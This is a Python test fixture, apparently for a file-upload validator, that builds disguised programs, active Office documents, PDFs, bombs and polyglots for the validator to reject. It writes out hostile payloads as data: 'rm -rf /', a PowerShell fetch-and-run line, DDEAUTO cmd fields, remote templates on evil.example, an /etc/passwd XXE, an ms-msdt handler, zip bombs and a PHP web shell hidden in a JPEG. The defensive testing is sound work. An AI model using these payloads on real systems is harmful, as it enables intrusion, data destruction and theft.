"""Files that mean harm, and files that may, by what they try."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from typing import NamedTuple

from app.uploads import EICAR
from tests.domain.evidence_samples import (
    DOCX,
    JPEG,
    ODT,
    PDF,
    PNG,
    XLSX,
    W,
    archive,
    docx_parts,
    open_document_parts,
    pdf,
    xlsx_parts,
)

EXTENSIONS = ("pdf", "png", "jpg", "jpeg", "docx", "xlsx", "odt", "ods")
SCRIPT = b"<html><script>alert(document.domain)</script></html>"


class File(NamedTuple):
    what: str
    content: bytes
    name: str


def program() -> bytes:
    """A small Windows program's head: the DOS stub says where the real one begins."""
    return b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200


PROGRAMS: Mapping[str, bytes] = {
    "a Windows program": program(),
    "a Linux program": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "a macOS program": b"\xcf\xfa\xed\xfe" + b"\0" * 200,
    "a fat macOS program": b"\xca\xfe\xba\xbe" + b"\0" * 200,
    "a shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 200,
    "an HTML application": b"<hta:application><script language='VBScript'>CreateObject(1)</script>",
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "a batch file": b"@echo off\r\nformat c:\r\n",
    "a PowerShell script": b"Invoke-WebRequest http://example.com | iex\r\n",
    "a Visual Basic script": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "a script": b"alert(1)",
    "a jar": archive({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
    "an installer or old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
    "a page": SCRIPT,
    "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "a stylesheet that runs": b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>',
    "rich text": rb"{\rtf1{\object\objautlink\objupdate}}",
    "a flash film": b"FWS\x09" + b"\0" * 200,
    "a picture that is a script": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
    "a bitmap that is a script": b"BM/*" + b"\0" * 20 + b"*/=1;alert(1)",
    "a disk image": b"\0" * 32_769 + b"CD001" + b"\0" * 100,
    "the test virus": EICAR,
    "nothing": b"",
    "zeros": b"\0" * 1_000,
    "a PDF that begins late": b"\n" + PDF,
    "a document behind a picture": b"GIF89a" + DOCX,
}


def renamed_programs() -> Iterator[File]:
    for what, content in PROGRAMS.items():
        for extension in EXTENSIONS:
            yield File(f"{what} as {extension}", content, f"bao-cao.{extension}")


# Office documents


def docx(parts: Mapping[str, bytes | str]) -> bytes:
    return archive({**docx_parts(), **parts})


def xlsx(parts: Mapping[str, bytes | str]) -> bytes:
    return archive({**xlsx_parts(), **parts})


def odt(parts: Mapping[str, bytes | str]) -> bytes:
    return archive({**open_document_parts("text"), **parts})


_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rId1" Type="{_RELATIONSHIPS}{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'


def field(*codes: str) -> str:
    """A Word part with one field, its code in pieces; "{" and "}" among them open and close a field inside it."""
    marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
    runs = "".join(
        f"<w:r>{marks.get(code) or f'<w:instrText>{code}</w:instrText>'}</w:r>" for code in ("{", *codes, "}")
    )
    return f'<w:document xmlns:w="{W}"><w:p>{runs}</w:p></w:document>'


def formula(text: str) -> str:
    return f"<worksheet><sheetData><row><c><f>{text}</f></c></row></sheetData></worksheet>"


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]><a>&a9;</a>"
)
OLE = PROGRAMS["an installer or old Word file"]
_ODF = 'xmlns:draw="urn:d" xmlns:xlink="urn:l" xmlns:script="urn:s"'


def _typed(part: str, kind: str) -> str:
    """Content types in which a part of any name is the document, beside one that looks like it."""
    type = f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    return f'<Types><Override PartName="/{part}" ContentType="{type}"/></Types>'


ACTIVE_WORD: Mapping[str, Mapping[str, bytes | str]] = {
    "an embedded program": {"word/media/image1.png": program()},
    "an embedded object": {"word/embeddings/oleObject1.bin": OLE},
    "an embedded object under a picture's name": {"word/media/image1.png": OLE},
    "an object by its relationship": {
        "word/_rels/document.xml.rels": relation("oleObject", "media/a.bin", external=False)
    },
    "a linked object": {"word/_rels/document.xml.rels": relation("oleObject", "file:///C:/a.xlsx")},
    "an embedded archive": {"word/embeddings/a.bin": archive({"a.exe": program()})},
    "a macro workbook inside": {"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": "x"})},
    "a control": {"word/_rels/document.xml.rels": relation("control", "activeX/activeX1.xml", external=False)},
    "a control by its type": {
        "[Content_Types].xml": str(docx_parts()["[Content_Types].xml"]) + "<x>application/vnd.ms-office.activeX+xml</x>"
    },
    "a remote template": {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm")},
    "a template on a share": {"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\evil.example\a\b.dotm")},
    "a template on a share by address": {
        "word/_rels/settings.xml.rels": relation("attachedTemplate", "file://evil.example/a.dotm")
    },
    "a template on a share, escaped": {
        "word/_rels/settings.xml.rels": relation("attachedTemplate", "file:%2f%2fevil.example/a.dotm")
    },
    "a remote picture": {"word/_rels/document.xml.rels": relation("image", "http://evil.example/a.png")},
    "a remote frame": {"word/_rels/webSettings.xml.rels": relation("frame", "http://evil.example/")},
    "a text of another format": {"word/_rels/document.xml.rels": relation("aFChunk", "a.mht", external=False)},
    "a protocol handler": {"word/_rels/document.xml.rels": relation("image", "ms-msdt:/id PCWDiagnostic")},
    "a field that starts a program": {"word/document.xml": field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')},
    "a field that starts a program, in pieces": {"word/document.xml": field(" DD", "EAU", "TO cmd")},
    "a field whose name is made up": {"word/document.xml": field("{", "QUOTE 68 68 69", "}", " cmd")},
    "a field in a header": {"word/header1.xml": field('INCLUDEPICTURE "http://evil.example/a.png"')},
    "a field in short": {
        "word/footnotes.xml": f'<w:p xmlns:w="{W}"><w:fldSimple w:instr=" INCLUDETEXT \\\\evil\\a "/></w:p>'
    },
    "a field in UTF-16": {"word/document.xml": field("DDE cmd").encode("utf-16")},
    "entities that grow": {"word/document.xml": LAUGHS},
    "entities that grow in UTF-16": {"word/document.xml": LAUGHS.encode("utf-16")},
    "entities that grow in relationships": {"word/_rels/document.xml.rels": LAUGHS},
    "an entity from a file": {"word/settings.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
    "relationships that are no XML": {"word/_rels/document.xml.rels": "<Relationships>"},
    "a field in a text that is called otherwise": {
        "[Content_Types].xml": _typed("word/other.dat", "wordprocessingml.document"),
        "word/other.dat": field("DDEAUTO cmd"),
    },
    "a field in a text that lies elsewhere": {
        "[Content_Types].xml": _typed("main/content.xml", "wordprocessingml.document"),
        "main/content.xml": field("DDEAUTO cmd"),
    },
    "the test virus": {"word/media/image1.png": EICAR},
    "the test virus in a workbook inside": {"word/embeddings/a.xlsx": xlsx({"xl/media/a.bin": b"x" * 9 + EICAR})},
}
ACTIVE_EXCEL: Mapping[str, Mapping[str, bytes | str]] = {
    "a DDE link": {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
    "a DDE formula": {"xl/worksheets/sheet1.xml": formula("cmd|'/c calc'!A0")},
    "a formula that calls the web": {"xl/worksheets/sheet1.xml": formula('_xlfn.WEBSERVICE("http://evil.example")')},
    **{
        f"a formula that calls out, {what}": {"xl/worksheets/sheet1.xml": formula(text)}
        for what, text in {
            "by a reference": "WEB&#83;ERVICE(A1)",
            "as raw text": "<![CDATA[WEBSERVICE(A1)]]>",
            "cut by a comment": "WEBSER<!-- -->VICE(A1)",
            "far behind": "1+" * 3_000 + "WEBSERVICE(A1)",
            "DDE by a reference": "cmd&#x7c;'/c calc'!A0",
            "DDE of a quoted program": "'my cmd'|'/c calc'!A0",
            "for a picture": '_xlfn.IMAGE("http://evil.example")',
            "to a server of data": 'RTD("a.b",,"c")',
        }.items()
    },
    "a name that calls the web": {"xl/workbook.xml": "<workbook><definedName>WEBSERVICE(A1)</definedName></workbook>"},
    "a formula in a sheet that lies elsewhere": {"s/sheet1.xml": formula("WEBSERVICE(A1)")},
    "a remote workbook": {
        "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "http://evil.example/a.xlsx")
    },
    "a data connection": {"xl/_rels/workbook.xml.rels": relation("connections", "connections.xml", external=False)},
}
ACTIVE_OPEN: Mapping[str, Mapping[str, bytes | str]] = {
    "a remote picture": {"content.xml": f'<a {_ODF}><draw:image xlink:href="http://evil.example/a"/></a>'},
    "an applet": {"content.xml": f'<a {_ODF}><draw:applet xlink:href="a.jar"/></a>'},
    "an event": {"content.xml": f'<a {_ODF}><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'},
    "a formula that calls the web": {"content.xml": '<a><b formula="of:=WEBSERVICE(A1)"/></a>'},
    "a DDE formula": {"content.xml": '<a><b formula="of:=DDE(A1;A2;A3)"/></a>'},
    "a formula of a remote document": {"content.xml": "<a><b formula=\"of:=['http://evil.example/a'#A.A1]\"/></a>"},
    "a page to go on to": {"meta.xml": f'<a {_ODF}><b xlink:href="http://evil.example/a"/></a>'},
    "an object": {"Object 1": OLE},
    "the test virus": {"Pictures/a.png": EICAR},
}


def active_documents() -> Iterator[File]:
    for kind, make, cases in (
        ("docx", docx, ACTIVE_WORD),
        ("xlsx", xlsx, ACTIVE_EXCEL),
        ("odt", odt, ACTIVE_OPEN),
    ):
        for what, parts in cases.items():
            yield File(f"{what} in {kind}", make(parts), f"a.{kind}")


# PDF


def stream(content: bytes, more: str = "", layers: int = 1) -> bytes:
    """A PDF whose page has such a stream as its content."""
    for _ in range(layers):
        content = zlib.compress(content, 9)
    head = f"<< /Length {len(content)} /Filter [{'/FlateDecode ' * layers}] {more} >>"
    whole = pdf("", f"{head}\nstream\nHERE\nendstream", page="/Contents 4 0 R")
    return whole.replace(b"HERE", content)  # readers find their way without the table of places


ACTIVE_PDF: Mapping[str, bytes] = {
    "JavaScript on opening": pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "JavaScript under an escaped name": pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "JavaScript among its names": pdf("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "<< /S /JavaScript >>"),
    "JavaScript nobody refers to": pdf("", "<< /S /JavaScript /JS (app.alert(1)) >>"),
    "JavaScript that the table does not list": PDF + b"9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n",
    "a program to start": pdf("", page="/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"),
    "a share to ask on opening a page": pdf("", page=r"/AA << /O << /S /GoToR /F (\\\\evil\\a) /D [0 /Fit] >> >>"),
    "a page to fetch on opening": pdf("/OpenAction << /S /URI /URI (http://evil.example) >>"),
    "a place, then a page to fetch": pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI >> >>"),
    "another document inside": pdf("", "<< /S /GoToE /T << /R /C >> >>"),
    "a file inside": pdf("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "<< /EF << /F 5 0 R >> >>"),
    "a dynamic form": pdf("/AcroForm << /XFA (x) >>"),
    "a film": pdf("", page="/Annots [<< /Subtype /RichMedia >>]"),
    "content from another file": pdf("", "<< /Length 0 /F (http://evil.example) >>\nstream\nendstream"),
    "the test virus": PDF + b"%" + EICAR,
}


def active_pdfs() -> Iterator[File]:
    for what, content in ACTIVE_PDF.items():
        yield File(f"{what} in a PDF", content, "a.pdf")


# Bombs, and what is broken


def png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return PNG[:8] + chunk(b"IHDR", head) + PNG[33:]


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def nested(levels: int) -> bytes:
    inside = DOCX
    for _ in range(levels):
        inside = docx({"word/embeddings/a.docx": inside})
    return inside


def overlapping() -> bytes:
    """Two names for the same bytes."""
    content = bytearray(docx({"word/media/a.bin": b"\0" * 1_000_000, "word/media/b.bin": b"\0" * 1_000_000}))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as made:
        first = made.getinfo("word/media/a.bin").header_offset
    at = content.rfind(b"word/media/b.bin") - 46
    content[at + 42 : at + 46] = struct.pack("<I", first)
    return bytes(content)


BOMBS: Mapping[str, tuple[bytes, str]] = {
    "a part of zeros": (docx({"word/media/a.bin": b"\0" * 12_000_000}), "a.docx"),
    "a part of zeros in a workbook inside": (
        docx({"word/embeddings/a.xlsx": xlsx({"xl/a.bin": b"\0" * 101_000_000})}),
        "a.docx",
    ),
    "documents in documents": (nested(10), "a.docx"),
    "entries that overlap": (overlapping(), "a.docx"),
    "a macro document before a clean one": (docx({"word/vbaProject.bin": "x"}) + DOCX, "a.docx"),
    "a picture of many pixels": (png(60_000, 60_000), "a.png"),
    "a photo of many pixels": (JPEG.replace(bytes.fromhex("0800080008"), bytes.fromhex("08ffffffff")), "a.jpg"),
    "a page that unfolds": (stream(b"\0" * 101_000_000), "a.pdf"),
    "a page that unfolds twice": (stream(b"\0" * 5_000_000, layers=2), "a.pdf"),
    "a scan of many pixels": (stream(b"x", "/Subtype /Image /Width 90000 /Height 90000"), "a.pdf"),
    "arrays in arrays": (pdf("/A " + "[" * 200_000), "a.pdf"),
    "half a PDF": (PDF[: len(PDF) // 2], "a.pdf"),
    "a PDF's first line": (PDF[:9], "a.pdf"),
    "a PDF without pages": (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n", "a.pdf"),
    "half a picture": (PNG[:-12], "a.png"),
    "a photo without its end": (JPEG[:-2], "a.jpg"),
    "a photo's thumbnail alone": (JPEG[:20] + JPEG[-2:], "a.jpg"),
    "half a document": (DOCX[: len(DOCX) // 2], "a.docx"),
    "half a workbook": (XLSX[:-1], "a.xlsx"),
    "half an OpenDocument": (ODT[:-30], "a.odt"),
}


def bombs() -> Iterator[File]:
    for what, (content, name) in BOMBS.items():
        yield File(what, content, name)


HARMLESS: Mapping[str, File] = {
    one.what: one
    for one in (
        File("a PDF that is a page, too", PDF + SCRIPT, "a.pdf"),
        File("a PDF that is a page from its second line", PDF.replace(b"1.4\n", b"1.4\n%" + SCRIPT + b"\n"), "b.pdf"),
        File("a PDF that is an archive, too", PDF + archive({"a.html": SCRIPT}), "c.pdf"),
        File(
            "a photo that is a script, too",
            JPEG[:2] + b"\xff\xfe\x00\x1c<?php system($_GET[0]);?>\n" + JPEG[2:],
            "d.jpg",
        ),
        File("a photo that is an archive, too", JPEG + archive({"a.html": SCRIPT}), "e.jpeg"),
        File("a picture that is a page, too", PNG[:33] + chunk(b"tEXt", b"a\0" + SCRIPT) + PNG[33:], "f.png"),
        File("a picture with a page behind it", PNG + SCRIPT, "g.png"),
        File("a document that is a page, too", docx({"word/media/a.html": SCRIPT}), "h.docx"),
        File("a workbook that is a page, too", xlsx({"docProps/a.html": SCRIPT}), "i.xlsx"),
    )
}
"""They stay what their names say; what else they are shows only to a program that is told to take them for it."""
